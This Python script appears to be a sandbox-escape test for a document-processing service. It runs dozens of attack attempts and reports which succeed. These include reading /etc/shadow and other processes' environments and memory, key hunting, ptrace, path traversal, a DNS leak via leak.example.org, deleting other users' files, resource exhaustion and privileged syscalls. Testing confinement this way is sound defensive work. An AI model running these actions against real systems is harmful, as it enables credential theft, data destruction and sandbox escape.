"""What somebody would try who has taken over the process that reads documents: run inside it, as a program.

It is given its targets as JSON on its standard input and tells as JSON what it got. Every attack is a
function of the targets that returns what it has gained; one that fails with an error has gained nothing.
"""

from __future__ import annotations

import ctypes
import json
import os
import resource
import signal
import socket
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

Targets = dict[str, Any]
Attack = Callable[[Targets], object]
_SECOND = 1.0


def _read(path: str) -> Attack:
    return lambda targets: Path(path.format(**targets)).read_bytes()


def _list(path: str) -> Attack:
    return lambda targets: os.listdir(path.format(**targets))


def _call(number: int, *arguments: int) -> Attack:
    def attempt(targets: Targets) -> object:
        library = ctypes.CDLL(None, use_errno=True)
        found = library.syscall(ctypes.c_long(number), *(ctypes.c_long(one) for one in arguments))
        if found < 0:
            raise OSError(ctypes.get_errno(), "refused")
        return found

    return attempt


def _socket(family: int, kind: int, protocol: int = 0) -> Attack:
    return lambda targets: socket.socket(family, kind, protocol).fileno()


def connect(targets: Targets) -> object:
    """TCP to a server of this machine."""
    with socket.create_connection(("127.0.0.1", targets["port"]), _SECOND) as found:
        return found.getpeername()


def udp(targets: Targets) -> object:
    """A datagram to a server of this machine, which counts them."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as found:
        return found.sendto(b"leak", ("127.0.0.1", targets["port"]))


def resolve(targets: Targets) -> object:
    """A name, which may carry a message to whoever answers for it."""
    return socket.getaddrinfo("leak.example.org", 80)


def listen(targets: Targets) -> object:
    """Open a port to the world."""
    with socket.create_server(("0.0.0.0", 0)) as found:
        return found.getsockname()


def abstract(targets: Targets) -> object:
    """The abstract socket of another process."""
    with socket.socket(socket.AF_UNIX) as found:
        found.connect("\0" + targets["abstract"])
        return "connected"


def unix(targets: Targets) -> object:
    """The socket of another process, by its path."""
    with socket.socket(socket.AF_UNIX) as found:
        found.connect(targets["unix"])
        return "connected"


def environment(targets: Targets) -> object:
    """Keys in the environment: one's own and that of the process before the exec."""
    own = {**os.environ, "proc": Path("/proc/self/environ").read_text(encoding="utf-8")}
    found = [name for name, value in own.items() if targets["key"] in value]
    if not found:
        raise PermissionError("no key")
    return found


def first_environment(targets: Targets) -> object:
    """Keys in the environment of the first process there is."""
    found = Path("/proc/1/environ").read_bytes()
    if targets["key"].encode() not in found:
        raise PermissionError("no key")
    return found


def _kill(target: str) -> Attack:
    def attempt(targets: Targets) -> object:
        os.kill(int(targets[target]) if target in targets else int(target), 0)
        return "may signal"

    return attempt


def ptrace(targets: Targets) -> object:
    """Take hold of the server."""
    return _call(101, 16, int(targets["server"]), 0, 0)(targets)


def other_memory(targets: Targets) -> object:
    """Read the memory of the server."""
    with open(f"/proc/{targets['server']}/mem", "rb") as file:
        return file.read(1)


def command_line(targets: Targets) -> object:
    """What the server was started with."""
    found = Path(f"/proc/{targets['server']}/cmdline").read_bytes()
    if Path("/proc/self").readlink().name == "1" or not found:
        raise PermissionError("another process")
    return found


def neighbours(targets: Targets) -> object:
    """Other processes of the machine."""
    found = [name for name in os.listdir("/proc") if name.isdigit() and int(name) > 50]
    if not found:
        raise PermissionError("nobody")
    return found


def _write(path: str) -> Attack:
    def attempt(targets: Targets) -> object:
        # Opened and left as it is: where the attack is not held nothing of the machine shall suffer.
        with open(path.format(**targets), "ab") as file:
            return file.fileno()

    return attempt


def _two(function: Callable[[str, str], object], source: str, target: str) -> Attack:
    return lambda targets: function(source.format(**targets), target.format(**targets)) or "done"


def _one(function: Callable[[str], object], path: str) -> Attack:
    return lambda targets: function(path.format(**targets)) or "done"


def _of_server(function: Callable[[int], object]) -> Attack:
    return lambda targets: function(targets["server"]) or "done"


def through_folder(targets: Targets) -> object:
    """Open the folder by its path alone, then what is in it."""
    folder = os.open(os.path.dirname(targets["secret"]), os.O_PATH)
    return os.read(os.open(os.path.basename(targets["secret"]), os.O_RDONLY, dir_fd=folder), 10)


def through_self(targets: Targets) -> object:
    """The same by way of /proc."""
    held = os.open(targets["secret"], os.O_PATH)
    return Path(f"/proc/self/fd/{held}").read_bytes()


def through_link(targets: Targets) -> object:
    """The same by way of a link in a folder of one's own."""
    link = Path(targets["scratch"]) / "link"
    link.symlink_to(targets["secret"])
    return link.read_bytes()


def inherited(targets: Targets) -> object:
    """Files and sockets that the server forgot to close."""
    found = []
    for number in range(3, 256):
        try:
            found.append(os.readlink(f"/proc/self/fd/{number}"))
        except OSError:
            continue
    left = [name for name in found if not name.startswith("/proc")]
    if not left:
        raise PermissionError("nothing")
    return left


def run_program(targets: Targets) -> object:
    """Another program of the machine."""
    child = os.fork()
    if child == 0:
        try:
            os.execv("/bin/true", ["true"])
        except OSError:
            os._exit(77)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) != 0:
        raise PermissionError("not run")
    return "ran"


def root(targets: Targets) -> object:
    """Privileges of any kind."""
    lines = Path("/proc/self/status").read_text(encoding="ascii").splitlines()
    found = [
        line for line in lines if line.startswith(("CapEff", "CapPrm", "CapBnd")) and line[-16:].strip("0")
    ]
    if not found:
        raise PermissionError("none")
    return found


def more_than_allowed(targets: Targets) -> object:
    """Raise one's own limits again."""
    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return "raised"


def large_file(targets: Targets) -> object:
    """One file of 10 GB, which takes no room until it is filled."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open(Path(targets["scratch"]) / "large", "wb") as file:
        return file.truncate(10 << 30)


def memory(targets: Targets) -> object:
    """10 GB of memory at once."""
    return len(bytearray(10 << 30))


# Numbers of calls: x86-64 and the numbers that all architectures share (from 424 on).
ATTACKS: dict[str, Attack] = {
    "inherited files": inherited,
    "read the users of the machine": _read("/etc/passwd"),
    "read the passwords of the machine": _read("/etc/shadow"),
    "read the name servers": _read("/etc/resolv.conf"),
    "read a corpus of another visitor": _read("{secret}"),
    "list the corpora of another visitor": _list("{others}"),
    "list the visitors": _list("{visitors}"),
    "list the root": _list("/"),
    "list the home folder": _list("{home}"),
    "list /tmp": _list("/tmp"),
    "list the project": _list("{project}"),
    "read the project's history": _read("{project}/.git/HEAD"),
    "climb out of its folder": _read("../../../../../../../../../../etc/passwd"),
    "climb out by /proc/self/root": _read("/proc/self/root/etc/passwd"),
    "climb out by /proc/self/cwd": _read("/proc/self/cwd/../../../../../../../../etc/passwd"),
    "through a handle of the folder": through_folder,
    "through /proc/self/fd": through_self,
    "through a symbolic link": through_link,
    "environment of the first process": first_environment,
    "environment of the server": _read("/proc/{server}/environ"),
    "maps of the server": _read("/proc/{server}/maps"),
    "open files of the server": _list("/proc/{server}/fd"),
    "memory of the server": other_memory,
    "command line of the server": command_line,
    "root of the server": _list("/proc/{server}/root/etc"),
    "other processes": neighbours,
    "keys in the environment": environment,
    "TCP to this machine": connect,
    "UDP to this machine": udp,
    "resolve a name": resolve,
    "listen on a port": listen,
    "abstract socket": abstract,
    "socket by path": unix,
    "TCP socket": _socket(socket.AF_INET, socket.SOCK_STREAM),
    "UDP socket": _socket(socket.AF_INET6, socket.SOCK_DGRAM),
    "raw socket": _socket(socket.AF_INET, socket.SOCK_RAW, 1),
    "packet socket": _socket(17, socket.SOCK_RAW, 768),
    "netlink socket": _socket(16, socket.SOCK_RAW),
    "socket to the hypervisor": _socket(40, socket.SOCK_STREAM),
    "kernel crypto socket": _socket(38, socket.SOCK_SEQPACKET),
    "signal the server": _kill("server"),
    "signal its parent": _kill("parent"),
    "ptrace the server": ptrace,
    "priority of the server": _of_server(lambda server: os.setpriority(os.PRIO_PROCESS, server, 19)),
    "limits of the server": _of_server(
        lambda server: resource.prlimit(server, resource.RLIMIT_NOFILE, (9, 9))
    ),
    "processors of the server": _of_server(lambda server: os.sched_setaffinity(server, {0})),
    "write into another's corpus": _write("{secret}"),
    "write into the program": _write("{project}/engine/errors.py"),
    "write into what was sent": _write("{documents}/sent.txt"),
    "add to what was sent": _write("{documents}/more.txt"),
    "write into /tmp": _write("/tmp/left-behind"),
    "write into /dev/shm": _write("/dev/shm/left-behind"),
    "remove another's corpus": _one(os.unlink, "{secret}"),
    "close another's corpus": _one(lambda path: os.chmod(path, 0), "{secret}"),
    "date of another's corpus": _one(lambda path: os.utime(path, (0, 0)), "{secret}"),
    "attribute of another's corpus": _one(lambda path: os.setxattr(path, "user.a", b"b"), "{secret}"),
    "owner of another's corpus": _one(lambda path: os.chown(path, -1, -1), "{secret}"),
    "link another's file into one's own": _two(os.link, "{secret}", "{corpus}/linked"),
    "link out of the corpus": _two(os.symlink, "/etc/passwd", "{corpus}/passwords"),
    "a pipe in the corpus": _one(os.mkfifo, "{corpus}/pipe"),
    "move another's file": _two(os.rename, "{secret}", "{corpus}/moved"),
    "put a file elsewhere": _two(os.rename, "{scratch}/own", "{others}/moved"),
    "run another program": run_program,
    "privileges": root,
    "change the root": _one(os.chroot, "/"),
    "raise its limits": more_than_allowed,
    "a file of 10 GB": large_file,
    "10 GB of memory": memory,
    "new namespaces": _call(272, 0x10000000),
    "mount": _call(165, 0, 0, 0, 0, 0),
    "io_uring": _call(425, 8, 0),
    "bpf": _call(321, 0, 0, 0),
    "performance events": _call(298, 0, 0, -1, -1, 0),
    "userfaultfd": _call(323, 0),
    "kernel keys": _call(250, 0, -3, 0),
    "shared memory": _call(29, 0, 4096, 0o1777),
    "message queues": _call(68, 1, 0o1666),
    "other architectures": _call(135, 0x0008),
    "open by handle": _call(304, -100, 0, 0),
    "load a module": _call(313, 0, 0, 0),
    "kernel log": _call(103, 3, 0, 0),
}


def main() -> None:
    """Try every attack and tell what each has gained; nothing for those that gained nothing."""
    targets = json.load(sys.stdin)
    (Path(targets["scratch"]) / "own").write_bytes(b"x")
    gained: dict[str, str] = {}
    for name, attack in ATTACKS.items():
        try:
            gained[name] = repr(attack(targets))[:200]
        # Whatever is in the way has kept it from what it was after.
        except (OSError, MemoryError, ValueError, IndexError):
            continue
    print(json.dumps({"tried": list(ATTACKS), "gained": gained}))


if __name__ == "__main__":
    main()
